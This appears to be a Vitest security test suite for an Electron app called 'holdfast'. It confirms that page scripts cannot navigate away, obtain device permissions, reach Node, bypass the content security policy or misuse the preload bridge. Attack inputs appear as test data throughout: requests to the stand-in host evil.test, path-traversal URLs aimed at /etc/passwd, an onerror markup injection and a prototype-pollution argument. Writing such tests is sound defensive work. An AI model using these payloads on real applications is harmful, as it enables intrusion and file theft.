/** The window as an attacker meets it: whatever runs in the page, it cannot leave, reach out, ask for rights, or speak for us. */
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { contract } from "../../preload/contract.ts";
import { App, appDir } from "./app.ts";

// A page that got away answers nothing any more: then each of the many must fail soon.
vi.setConfig({ testTimeout: 15_000 });

const home = "app://holdfast/index.html";
let app: App;
let folder: string;
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), "holdfast-security-"));
  app = await App.launch({ dataDir: folder });
  await app.page.evaluate(() => Object.assign(window, { sameDocument: true }));
  await app.electron.evaluate(({ shell }) => {
    const opened: string[] = [];
    Object.assign(globalThis, { opened });
    shell.openExternal = async (url: string) => void opened.push(url);
  });
});
afterAll(async () => {
  await app?.end();
  rmSync(folder, { recursive: true, force: true, maxRetries: 10, retryDelay: 50 });
});

/** In the page, with a user's gesture behind it. */
function inPage<T>(code: string): Promise<T> {
  return app.electron.evaluate(({ BrowserWindow }, script) => {
    const [window] = BrowserWindow.getAllWindows();
    return window?.webContents.executeJavaScript(script, true);
  }, code) as Promise<T>;
}

/** What was begun has either happened or been refused: the page had nothing left to do, twice, and main has answered between. */
async function settle(): Promise<void> {
  for (let turn = 0; turn < 2; turn++) {
    await app.page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve, { timeout: 100 })));
    await app.streams();
  }
}

const link = (attributes: string, press: string): string => `(() => {
  const link = Object.assign(document.createElement("a"), ${attributes});
  document.body.append(link);
  ${press};
  link.remove();
})()`;
const frame = (attributes: string): string => `(() => {
  const frame = Object.assign(document.createElement("iframe"), ${attributes});
  document.body.append(frame);
  setTimeout(() => frame.remove(), 50);
})()`;

describe("leaving", () => {
  it.each<[string, string]>([
    ["location.href", `location.href = "https://evil.test/"`],
    ["location.assign of a file", `location.assign("file:///etc/passwd")`],
    ["location.replace by data:", `location.replace("data:text/html,gone")`],
    ["another host of our own scheme", `location.href = "app://other/index.html"`],
    ["a file of our own that is not the page", `location.href = "app://holdfast/assets/x.html"`],
    ["a javascript: address", `location.href = "javascript:window.__pwned = 1"`],
    ["a link", link(`{ href: "https://evil.test/" }`, "link.click()")],
    ["a link to a new window", link(`{ href: "https://evil.test/", target: "_blank" }`, "link.click()")],
    [
      "a middle click",
      link(
        `{ href: "https://evil.test/" }`,
        `link.dispatchEvent(new MouseEvent("click", { button: 1, ctrlKey: true, bubbles: true }))`,
      ),
    ],
    ["a download", link(`{ href: "data:text/plain,x", download: "x.txt" }`, "link.click()")],
    ["window.open", `window.open("https://evil.test/")`],
    ["window.open of about:blank", `window.open("about:blank")`],
    ["window.open of our own page", `window.open(location.href)`],
    [
      "a form",
      `(() => { const form = Object.assign(document.createElement("form"), { action: "https://evil.test/", method: "post" }); document.body.append(form); form.submit(); form.remove(); })()`,
    ],
    [
      "a refresh by meta",
      `(() => { const meta = Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=https://evil.test/" }); document.head.append(meta); setTimeout(() => meta.remove(), 50); })()`,
    ],
    ["a frame", frame(`{ src: "https://evil.test/" }`)],
    ["a frame of our own page", frame(`{ src: location.href }`)],
    ["a custom scheme", `location.href = "mailto:someone@evil.test"`],
  ])("is refused: %s", async (_name, code) => {
    await inPage(`${code}; undefined`).catch(() => {});
    await settle();
    expect(app.page.url()).toBe(home);
    expect(await app.page.evaluate(() => "sameDocument" in window && !("__pwned" in window))).toBe(true);
    const seen = await app.electron.evaluate(({ BrowserWindow }) => ({
      windows: BrowserWindow.getAllWindows().length,
      opened: (globalThis as unknown as { opened: string[] }).opened,
    }));
    expect(seen).toEqual({ windows: 1, opened: [] });
  });

  it("is undone where nobody is asked: a page that goes to about:blank is brought back", async () => {
    await inPage(`location.href = "about:blank"; undefined`).catch(() => {});
    await expect
      .poll(() => app.page.evaluate(() => "bridge" in window && !("sameDocument" in window)).catch(() => false))
      .toBe(true);
    await expect.poll(() => app.page.url()).toBe(home);
    await app.page.locator("nav").first().waitFor();
    expect(await app.streams()).toEqual([]);
  });

  it("never attaches a webview", async () => {
    await inPage(`(() => {
      const view = document.createElement("webview");
      view.setAttribute("src", "https://evil.test/");
      document.body.append(view);
      setTimeout(() => view.remove(), 50);
    })()`);
    await settle();
    const kinds = await app.electron.evaluate(({ webContents }) =>
      webContents.getAllWebContents().map((each) => each.getType()),
    );
    expect(kinds).toEqual(["window"]);
  });
});

describe("a permission is refused:", () => {
  const asked = (code: string): string => `Promise.race([
    (async () => { ${code} })().then((given) => given === undefined || given === true ? "granted" : String(given), (error) => "refused: " + error.name),
    new Promise((resolve) => setTimeout(resolve, 5000, "no answer")),
  ])`;
  it.each<[string, string]>([
    ["camera", "await navigator.mediaDevices.getUserMedia({ video: true })"],
    ["microphone", "await navigator.mediaDevices.getUserMedia({ audio: true })"],
    ["screen", "await navigator.mediaDevices.getDisplayMedia({ video: true })"],
    [
      "place",
      "await new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, (e) => no(new DOMException(e.message, 'E' + e.code))))",
    ],
    ["notifications", "return Notification.requestPermission()"],
    ["reading the clipboard", "await navigator.clipboard.readText()"],
    ["reading pictures from the clipboard", "await navigator.clipboard.read()"],
    ["MIDI", "await navigator.requestMIDIAccess()"],
    ["MIDI with system messages", "await navigator.requestMIDIAccess({ sysex: true })"],
    ["USB", "await navigator.usb.requestDevice({ filters: [] })"],
    ["Bluetooth", "await navigator.bluetooth.requestDevice({ acceptAllDevices: true })"],
    [
      "HID",
      "const found = await navigator.hid.requestDevice({ filters: [] }); return found.length === 0 ? 'denied' : undefined",
    ],
    ["serial ports", "await navigator.serial.requestPort()"],
    ["fonts of the machine", "const fonts = await queryLocalFonts(); return fonts.length === 0 ? 'denied' : undefined"],
    ["all screens", "await getScreenDetails()"],
    ["idleness of the user", "return IdleDetector.requestPermission()"],
    ["staying awake", "await navigator.wakeLock.request('screen')"],
    ["storage for good", "return (await navigator.storage.persist()) ? true : 'denied'"],
    ["the pointer", "await document.body.requestPointerLock()"],
    [
      "the whole screen",
      "const late = new Promise((end) => setTimeout(end, 300)); await Promise.race([document.body.requestFullscreen(), late]); return document.fullscreenElement === null ? 'denied' : undefined",
    ],
    [
      "the keyboard",
      "await navigator.keyboard.lock(); return document.fullscreenElement === null ? 'denied' : undefined",
    ],
  ])("%s", async (_name, code) => {
    expect(await inPage<string>(asked(code))).toMatch(/^(denied|refused: \w+)$/);
  });

  it.each([
    "camera",
    "microphone",
    "geolocation",
    "notifications",
    "midi",
    "clipboard-read",
    "persistent-storage",
    "background-sync",
    "local-fonts",
    "window-management",
    "idle-detection",
    "screen-wake-lock",
    "storage-access",
  ])("and a question about it is answered so: %s", async (name) => {
    const state = await inPage<string>(
      `navigator.permissions.query({ name: ${JSON.stringify(name)} }).then(({ state }) => state, (error) => error.name)`,
    );
    expect(["denied", "TypeError"]).toContain(state);
  });
});

describe("the page", () => {
  it("has nothing of Node and nothing of Electron", async () => {
    const names = [
      "require",
      "process",
      "module",
      "exports",
      "global",
      "Buffer",
      "__dirname",
      "electron",
      "ipcRenderer",
      "setImmediate",
    ];
    expect(await app.page.evaluate((all) => all.filter((name) => name in window), names)).toEqual([]);
  });

  it("has exactly the functions of the contract, and can change none of them", async () => {
    const shape = await app.page.evaluate(() =>
      Object.fromEntries(Object.entries(window.bridge).map(([group, entries]) => [group, Object.keys(entries).sort()])),
    );
    expect(shape).toEqual(
      Object.fromEntries(Object.entries(contract).map(([group, entries]) => [group, Object.keys(entries).sort()])),
    );
    const changed = await inPage<boolean>(`(() => {
      const before = window.bridge.streams.list;
      try { window.bridge.streams.list = () => "mine"; window.bridge = {}; } catch {}
      return window.bridge.streams.list !== before;
    })()`);
    expect(changed).toBe(false);
  });

  it("comes with a policy without a hole", async () => {
    const headers = await app.electron.evaluate(
      async ({ net }, url) => Object.fromEntries((await net.fetch(url)).headers),
      home,
    );
    const policy = headers["content-security-policy"] ?? "";
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("script-src 'self'");
    expect(policy).toContain("require-trusted-types-for 'script'");
    expect(policy).not.toMatch(/unsafe|\*|https?:|blob:|localhost/);
    expect(headers["x-content-type-options"]).toBe("nosniff");
  });

  it.each<[string, string, string | null]>([
    ["eval", `eval("1")`, null],
    ["new Function", `new Function("return 1")()`, null],
    ["a timer with text", `setTimeout("window.__pwned = 1")`, null],
    ["markup by innerHTML", `document.body.innerHTML += "<img src=x onerror='window.__pwned=1'>"`, null],
    [
      "an inline script",
      `document.head.append(Object.assign(document.createElement("script"), { text: "window.__pwned = 1" }))`,
      null,
    ],
    [
      "a style element",
      `document.head.append(Object.assign(document.createElement("style"), { textContent: "body{display:none}" }))`,
      "style-src-elem",
    ],
    ["a style attribute", `document.body.setAttribute("style", "display:none")`, "style-src-attr"],
    ["an inline handler", `document.body.setAttribute("onclick", "window.__pwned = 1"); document.body.click()`, null],
    ["a remote picture", `new Image().src = "https://evil.test/x.png"`, "img-src"],
    ["a request", `await fetch("https://evil.test/").then(() => { window.__pwned = 1 }, () => {})`, "connect-src"],
    ["a WebSocket", `new WebSocket("wss://evil.test/")`, "connect-src"],
    ["an event source", `new EventSource("https://evil.test/")`, "connect-src"],
    ["a beacon", `navigator.sendBeacon("https://evil.test/", "x")`, "connect-src"],
    [
      "a base",
      `document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.test/" }))`,
      "base-uri",
    ],
    [
      "an object",
      `document.body.append(Object.assign(document.createElement("object"), { data: "https://evil.test/" }))`,
      null,
    ],
    ["a font", `await new FontFace("x", "url(https://evil.test/x.woff2)").load().catch(() => {})`, "font-src"],
    ["a sound", `new Audio("https://evil.test/x.mp3").load()`, "media-src"],
    [
      "a link that prefetches",
      `document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "https://evil.test/x.css" }))`,
      "style-src-elem",
    ],
  ])("cannot use %s", async (_name, code, directive) => {
    const refused = await inPage<string[]>(`(async () => {
      const refused = [];
      const note = (event) => refused.push(event.effectiveDirective);
      document.addEventListener("securitypolicyviolation", note);
      let threw = false;
      try { await (async () => { ${code} })(); } catch { threw = true; }
      for (let turn = 0; turn < 20 && refused.length === 0 && !threw; turn++) await new Promise((resolve) => setTimeout(resolve, 25));
      document.removeEventListener("securitypolicyviolation", note);
      for (const left of document.querySelectorAll("head style, head base, body > object, head link[href^=https], head script:not([src])")) left.remove();
      document.body.removeAttribute("style");
      document.body.removeAttribute("onclick");
      return threw ? [...refused, "threw"] : refused;
    })()`);
    if (directive === null) expect(refused).toContain("threw");
    else expect(refused).toContain(directive);
    expect(await app.page.evaluate(() => "__pwned" in window)).toBe(false);
  });

  it.each([
    "app://holdfast/../../etc/passwd",
    "app://holdfast/..%2f..%2f..%2fetc%2fpasswd",
    "app://holdfast/%2e%2e/%2e%2e/etc/passwd",
    "app://holdfast/..%5c..%5cmain%5cmain.js",
    "app://holdfast/../main/main.js",
    "app://holdfast/index.html%00.js",
    "app://holdfast//etc/passwd",
    "app://holdfast/assets/",
    "app://holdfast/package.json",
    "app://holdfast/INDEX.HTML",
  ])("is not served %s", async (url) => {
    const status = await app.electron.evaluate(async ({ net }, address) => (await net.fetch(address)).status, url);
    expect(status).toBe(404);
  });

  it("is not served to another host of the scheme", async () => {
    const got = await app.electron.evaluate(({ net }) =>
      net.fetch("app://other/index.html").then(
        ({ status }) => status,
        () => "refused",
      ),
    );
    expect([404, "refused"]).toContain(got);
  });
});

describe("a call of the bridge is refused", () => {
  const everyCall = Object.entries(contract).flatMap(([group, entries]) =>
    Object.entries(entries).flatMap(([name, { kind }]) => (kind === "call" ? [[group, name] as const] : [])),
  );
  const answers = `Promise.all(${JSON.stringify(everyCall)}.map(([group, name]) =>
    "bridge" in window ? window.bridge[group][name]().then((outcome) => outcome.ok ? group + "." + name : "refused", () => "refused") : "no bridge"))`;

  it.each(["about:blank", "app://holdfast/index.html"])("from another window that shows %s", async (url) => {
    const got = await app.electron.evaluate(
      async ({ BrowserWindow }, [address = "", preload = "", script = ""]) => {
        const other = new BrowserWindow({
          show: false,
          webPreferences: { preload, sandbox: true, contextIsolation: true },
        });
        try {
          await other.loadURL(address);
          return (await other.webContents.executeJavaScript(script)) as string[];
        } finally {
          other.destroy();
        }
      },
      [url, join(appDir, "dist/preload/preload.cjs"), answers],
    );
    expect(new Set(got)).toEqual(new Set(["refused"]));
  });

  it("from a frame inside our own page, which has no bridge at all", async () => {
    const got = await inPage<string>(`(async () => {
      const frame = document.createElement("iframe");
      document.body.append(frame);
      const has = "bridge" in frame.contentWindow;
      frame.remove();
      return has ? "a bridge" : "none";
    })()`);
    expect(got).toBe("none");
  });

  it.each<[string, string]>([
    ["no argument", `window.bridge.streams.retryNow()`],
    ["a wrong type", `window.bridge.streams.retryNow(7)`],
    ["an id that climbs", `window.bridge.streams.retryNow("../../x")`],
    [
      "a huge limit",
      `window.bridge.events.window({ stream: "x", filter: { types: [], text: "", path: "", from: null, to: null }, from: 0, limit: 1e9 })`,
    ],
    ["an unknown setting", `window.bridge.settings.setGeneral({ theme: "pink" })`],
    ["a prototype", `window.bridge.settings.setGeneral(JSON.parse('{"__proto__": 1, "theme": 2}'))`],
  ])("with %s, and the app lives on", async (_name, code) => {
    const outcome = await inPage<{ ok: boolean; error?: { code: string } }>(code);
    expect(outcome).toMatchObject({ ok: false, error: { code: "bad-argument" } });
    expect(await app.streams()).toEqual([]);
  });
});
